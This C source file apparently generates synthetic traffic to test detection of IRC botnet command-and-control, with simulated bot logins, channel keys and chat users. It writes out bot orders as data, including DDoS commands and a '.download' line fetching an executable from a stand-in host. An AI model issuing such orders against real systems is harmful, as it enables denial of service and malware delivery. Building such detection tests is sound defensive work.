/* irc.c - bots that are commanded over IRC, and people who talk there.
 *
 * The sensor is the line of a provider, so hosts inside call servers outside, and in one
 * scene the reverse.  Facts: "cnc" by port, by "cnc-secret" (channel, key and password),
 * by "cnc-name" (form of nicks and server), by "cnc-order" and "cnc-state", each with the
 * measure "connections"; "botnet", "infected" by country, "irc-port" by group of ports.
 */
#include "synth/talk.h"

#include <time.h>

#define SECOND INT64_C(1000000000)
#define MONTH "2008-12"

enum { PIECE = 7, PING_S = 300, TEXT_SIZE = 512 };

struct botnet {
	const char *password, *channel, *key, *user;
};

/* That of a published analysis. */
static const struct botnet document = { "m4s3rvp4ssz", "#s3k4nt", "m4n0sp4z", "xkqz" };

static int64_t
set_up(struct stage *stage)
{
	stage_small(stage);
	struct stage_sensor *s =
		stage_sensor(stage, "line", "Testbed", "UTC", "10.0.0.0/16");
	stage_observed(s, "2008-12-10", "2008-12-13");
	return stage_time_ns(s, "2008-12-10T09:00:00Z");
}

/* In small segments, as a slow line might. */
__attribute__((format(printf, 3, 4))) static void
say(struct talk *t, bool client, const char *fmt, ...)
{
	char text[TEXT_SIZE];
	va_list ap;
	va_start(ap, fmt);
	int n = vsnprintf(text, sizeof(text), fmt, ap);
	va_end(ap);
	must(n > 0 && (size_t)n < sizeof(text));
	for (int at = 0; at < n; at += PIECE)
		talk_say(t, client,
			bytes_of(text + at, (size_t)(n - at < PIECE ? n - at : PIECE)));
}

struct server {
	struct talk_end end;
	const char *name;
};

/* A bot up to the list of the channel's members, itself and two more. */
static struct talk
join(struct stage *stage, int64_t time_ns, struct talk_end bot, const struct server *server,
	const struct botnet *b, const char *nick)
{
	struct talk t = talk_begin(stage, time_ns, bot, server->end);
	if (b->password)
		say(&t, true, "PASS %s\r\n", b->password);
	say(&t, true, "NICK %s\r\nUSER %s 0 * :%s\r\n", nick, b->user, b->user);
	say(&t, false, ":%s 001 %s :Welcome\r\n:%s 422 %s :MOTD File is missing\r\n",
		server->name, nick, server->name, nick);
	say(&t, true, "JOIN %s %s\r\n", b->channel, b->key);
	say(&t, false, ":%s!%s@host JOIN :%s\r\n", nick, b->user, b->channel);
	say(&t, false,
		":%s 353 %s @ %s :%s @boss other\r\n:%s 366 %s %s :End of /NAMES list.\r\n",
		server->name, nick, b->channel, nick, server->name, nick, b->channel);
	return t;
}

static void
stay(struct talk *t, const struct server *server, int64_t seconds)
{
	for (int64_t end_ns = t->time_ns + seconds * SECOND; t->time_ns < end_ns;) {
		t->time_ns += PING_S * SECOND;
		say(t, false, "PING :%s\r\n", server->name);
		say(t, true, "PONG :%s\r\n", server->name);
	}
}

static void
order(struct talk *t, const struct botnet *b, const char *text)
{
	say(t, false, ":boss!b@h PRIVMSG %s :%s\r\n", b->channel, text);
}

/* --- the bot of the document ----------------------------------------------------------
 */

/* A day of silence; the order, when there is one, comes after it. */
static void
make_document(struct stage *stage, const char *command)
{
	int64_t start = set_up(stage);
	struct server server = { { talk_addr("10.3.110.141"), 6767 },
		"c.rvsanmiguel.example" };
	struct talk t = join(stage, start,
		(struct talk_end){ stage_address(stage, SMALL_JP, 7), 1049 }, &server,
		&document, "ESP|XP|48213");
	stay(&t, &server, 86400);
	if (command) {
		char at[32];
		struct tm tm;
		time_t s = (time_t)(t.time_ns / SECOND);
		must(gmtime_r(&s, &tm) &&
			strftime(at, sizeof(at), "%Y-%m-%d %H:%M:%S", &tm) > 0);
		stage_fact(stage, MONTH, "cnc-moment", at, "connections", 1);
		order(&t, &document, command);
		stage_fact(stage, MONTH, "cnc-order", "boss: .ddos 192.0.2.99 80 600",
			"connections", 1);
	}
	talk_end(&t);
	talk_expect(stage, MONTH, "irc", 1);
	talk_expect(stage, MONTH, "irc-cnc", 1);
	stage_fact(stage, MONTH, "cnc", "6767/tcp", "connections", 1);
	stage_fact(stage, MONTH, "cnc", "6767/tcp", "members", 3);
	stage_fact(stage, MONTH, "cnc-secret", "#s3k4nt m4n0sp4z m4s3rvp4ssz",
		"connections", 1);
	stage_fact(stage, MONTH, "cnc-name", "ESP|XP|\\d{5} c.rvsanmiguel.example",
		"connections", 1);
	stage_fact(stage, MONTH, "cnc-server", "10.3.110.141 6767/tcp", "connections", 1);
	stage_fact(
		stage, MONTH, "cnc-state", command ? "active" : "idle", "connections", 1);
	stage_fact(stage, MONTH, "botnet", "", "commanded", command != NULL);
	stage_fact(stage, MONTH, "infected", "JP", "hosts", 1);
	stage_fact(stage, MONTH, "irc-port", "other ports", "servers", 1);
}

static int
make_bot(struct stage *stage, struct err *err)
{
	(void)err;
	make_document(stage, ".ddos 192.0.2.99 80 600");
	return 0;
}

static int
make_bot_idle(struct stage *stage, struct err *err)
{
	(void)err;
	make_document(stage, NULL);
	return 0;
}

/* --- one botnet of three servers ------------------------------------------------------
 */

/* Two servers outside; the third is an infected host inside, called from abroad. */
static int
make_botnet(struct stage *stage, struct err *err)
{
	enum { BOTS = 12, SERVERS = 3 };
	static const struct botnet net = { "l3tm31n", "#sl0w", "l03dx", "ghm" };
	static const size_t homes[SERVERS][2] = { { SMALL_JP, SMALL_JP },
		{ SMALL_JP, SMALL_JP }, { SMALL_CN, SMALL_US } };
	(void)err;
	int64_t start = set_up(stage);
	const struct server servers[SERVERS] = {
		{ { stage_address(stage, SMALL_US, 1), 6667 }, "one.example" },
		{ { stage_address(stage, SMALL_CN, 2), 8080 }, "two.example" },
		{ { stage_address(stage, SMALL_JP, 900), 6669 }, "three.example" },
	};
	for (uint32_t i = 0; i < BOTS; i++) {
		const struct server *server = &servers[i % SERVERS];
		char nick[32];
		(void)snprintf(nick, sizeof(nick), "damn-%010u", 262937047U + i * 7919);
		struct talk t = join(stage, start + (i / 6 * 86400 + i * 60) * SECOND,
			(struct talk_end){
				stage_address(stage, homes[i % SERVERS][i % 2], 20 + i),
				(uint16_t)(1100 + i) },
			server, &net, nick);
		stay(&t, server, 1200);
		if (i % SERVERS == 1)
			order(&t, &net, "!ddos 2001:db8::7 80 60");
		talk_end(&t);
	}
	talk_expect(stage, MONTH, "irc", BOTS);
	talk_expect(stage, MONTH, "irc-cnc", SERVERS);
	stage_fact(stage, MONTH, "cnc", "6667/tcp", "connections", 4);
	stage_fact(stage, MONTH, "cnc", "8080/tcp", "connections", 4);
	stage_fact(stage, MONTH, "cnc", "6669/tcp", "connections", 4);
	stage_fact(stage, MONTH, "cnc-state", "active", "connections", 4);
	stage_fact(stage, MONTH, "cnc-state", "idle", "connections", 8);
	stage_fact(stage, MONTH, "botnet", "", "servers", SERVERS);
	stage_fact(stage, MONTH, "botnet", "", "hosts", BOTS);
	stage_fact(stage, MONTH, "botnet", "", "countries", 3);
	stage_fact(stage, MONTH, "botnet", "", "commanded", 4);
	stage_fact(stage, MONTH, "infected", "JP", "hosts", 8);
	stage_fact(stage, MONTH, "infected", "CN", "hosts", 2);
	stage_fact(stage, MONTH, "infected", "US", "hosts", 2);
	stage_fact(stage, MONTH, "infected-day", "2008-12-10", "hosts", 6);
	stage_fact(stage, MONTH, "infected-day", "2008-12-11", "hosts", 6);
	return 0;
}

/* Bots that send all they have at once, to a server that will have none of them. */
static int
make_dead(struct stage *stage, struct err *err)
{
	enum { BOTS = 3 };
	(void)err;
	int64_t start = set_up(stage);
	for (uint32_t i = 0; i < BOTS; i++) {
		struct talk t = talk_begin(stage, start + i * 600 * SECOND,
			(struct talk_end){ stage_address(stage, SMALL_JP, 30 + i),
				(uint16_t)(1200 + i) },
			(struct talk_end){ stage_address(stage, SMALL_US, 9), 7100 });
		say(&t, true,
			"PASS %s\r\nNICK ESP|XP|4821%u\r\nUSER xkqz 0 * :xkqz\r\n"
			"JOIN %s %s\r\n",
			document.password, i, document.channel, document.key);
		say(&t, false, "ERROR :Closing Link: (K-lined)\r\n");
		talk_end(&t);
	}
	talk_expect(stage, MONTH, "irc", BOTS);
	talk_expect(stage, MONTH, "irc-cnc", 1);
	stage_fact(stage, MONTH, "cnc", "7100/tcp", "connections", BOTS);
	stage_fact(stage, MONTH, "cnc-state", "dead", "connections", BOTS);
	stage_fact(stage, MONTH, "botnet", "", "servers", 1);
	stage_fact(stage, MONTH, "botnet", "", "hosts", BOTS);
	return 0;
}

/* --- people ---------------------------------------------------------------------------
 */

static void
chat(struct stage *stage, int64_t time_ns, struct talk_end person, struct talk_end server,
	const char *nick)
{
	struct talk t = talk_begin(stage, time_ns, person, server);
	say(&t, true, "CAP LS 302\r\nNICK %s\r\nUSER %s 0 * :%s\r\n", nick, nick, nick);
	say(&t, false,
		":irc.example 001 %s :Welcome\r\n:irc.example 005 %s NETWORK=ExampleNet "
		":are supported\r\n",
		nick, nick);
	t.time_ns += 20 * SECOND;
	say(&t, true, "JOIN #garden\r\n");
	say(&t, false, ":irc.example 332 %s #garden :tomatoes, roses and more\r\n", nick);
	say(&t, true, "PRIVMSG #garden :good morning everybody\r\n");
	say(&t, false, ":bob!b@h PRIVMSG #garden :what a scan of the roses!\r\n");
	t.time_ns += 60 * SECOND;
	say(&t, true, "PRIVMSG #garden :the tomatoes look fine\r\nWHOIS bob\r\n");
	say(&t, true, "PRIVMSG #garden :and the beans too\r\nQUIT :bye\r\n");
	talk_end(&t);
}

/* Besides: a bouncer with a password and a key, a guest who says nothing. */
static int
make_chat(struct stage *stage, struct err *err)
{
	enum { PEOPLE = 20 };
	(void)err;
	int64_t start = set_up(stage);
	struct talk_end server = { stage_address(stage, SMALL_US, 3), 6667 };
	for (uint32_t i = 0; i < PEOPLE; i++) {
		char nick[16];
		(void)snprintf(nick, sizeof(nick), "user%c", (char)('a' + i));
		chat(stage, start + i * 300 * SECOND,
			(struct talk_end){
				stage_address(stage, SMALL_JP, i), (uint16_t)(2000 + i) },
			server, nick);
	}
	struct talk t = talk_begin(stage, start,
		(struct talk_end){ stage_address(stage, SMALL_JP, 50), 2100 }, server);
	say(&t, true, "CAP LS\r\nPASS bob/net:secret\r\nNICK bob\r\nUSER bob 0 * :Bob\r\n");
	say(&t, false, ":bnc.example 001 bob :Welcome\r\n");
	say(&t, false, ":bnc.example 005 bob NETWORK=ExampleNet :are supported\r\n");
	say(&t, true, "JOIN #private key\r\n");
	talk_end(&t);
	t = talk_begin(stage, start,
		(struct talk_end){ stage_address(stage, SMALL_JP, 51), 2101 }, server);
	say(&t, true, "NICK guest4821\r\nUSER guest 0 * :guest\r\n");
	say(&t, false, ":irc.example 001 guest4821 :Welcome\r\n");
	say(&t, true, "JOIN #garden\r\n");
	talk_end(&t);
	talk_expect(stage, MONTH, "irc", PEOPLE + 2);
	talk_expect(stage, MONTH, "irc-cnc", 0);
	stage_fact(stage, MONTH, "irc-port", "6660-6669", "servers", 0);
	return 0;
}

/* --- ports ----------------------------------------------------------------------------
 */

/* Eight botnets, half of them on 6660 to 6669, where people talk as well. */
static int
make_ports(struct stage *stage, struct err *err)
{
	static const uint16_t ports[] = { 6660, 6667, 6667, 6669, 80, 8080, 6767, 31337 };
	enum { PEOPLE = 12 };
	(void)err;
	int64_t start = set_up(stage);
	for (uint32_t i = 0; i < count_of(ports); i++) {
		char channel[16], name[16];
		(void)snprintf(channel, sizeof(channel), "#net%u", i);
		(void)snprintf(name, sizeof(name), "s%u.example", i);
		struct botnet net = { NULL, channel, "k3y", "bot" };
		struct server server = {
			{ stage_address(stage, SMALL_US, 10 + i), ports[i] }, name
		};
		struct talk t = join(stage, start + i * 1000 * SECOND,
			(struct talk_end){ stage_address(stage, SMALL_JP, 60 + i),
				(uint16_t)(3000 + i) },
			&server, &net, "JPN|XP|50123");
		order(&t, &net, ".download http://x.example/a.exe a.exe 1");
		talk_end(&t);
	}
	for (uint32_t i = 0; i < PEOPLE; i++)
		chat(stage, start + i * 300 * SECOND,
			(struct talk_end){
				stage_address(stage, SMALL_JP, i), (uint16_t)(2000 + i) },
			(struct talk_end){ stage_address(stage, SMALL_US, 3),
				(uint16_t)(i % 4 ? 6667 : 6697) },
			"alice");
	talk_expect(stage, MONTH, "irc", count_of(ports) + PEOPLE);
	talk_expect(stage, MONTH, "irc-cnc", count_of(ports));
	stage_fact(stage, MONTH, "irc-port", "6660-6669", "servers", 4);
	stage_fact(stage, MONTH, "irc-port", "80 and 8080", "servers", 2);
	stage_fact(stage, MONTH, "irc-port", "other ports", "servers", 2);
	stage_fact(stage, MONTH, "irc-port", "6660-6669", "ordinary", 9);
	stage_fact(stage, MONTH, "irc-port", "other ports", "ordinary", 3);
	return 0;
}

SCENE(irc_bot) = {
	.name = "irc-bot",
	.summary = "Trend Micro: a bot on port 6767, idle for a day, then told to attack",
	.shows = "irc-cnc, W2, W3, M8",
	.make = make_bot,
};

SCENE(irc_bot_idle) = {
	.name = "irc-bot-idle",
	.summary = "Trend Micro: the same bot for a day without an order",
	.shows = "irc-cnc, W3",
	.make = make_bot_idle,
};

SCENE(irc_botnet) = {
	.name = "irc-botnet",
	.summary = "one botnet of three servers, one of them an infected host",
	.shows = "irc-cnc, M12",
	.make = make_botnet,
};

SCENE(irc_dead) = {
	.name = "irc-dead",
	.summary = "bots whose server refuses them",
	.shows = "irc-cnc, W3",
	.make = make_dead,
};

SCENE(irc_chat) = {
	.name = "irc-chat",
	.summary = "people who talk, a bouncer and a silent guest: no C&C",
	.shows = "irc",
	.make = make_chat,
};

SCENE(irc_ports) = {
	.name = "irc-ports",
	.summary =
		"eight botnets, half of them on ports 6660 to 6669, among people who talk",
	.shows = "irc-cnc, M8",
	.make = make_ports,
};
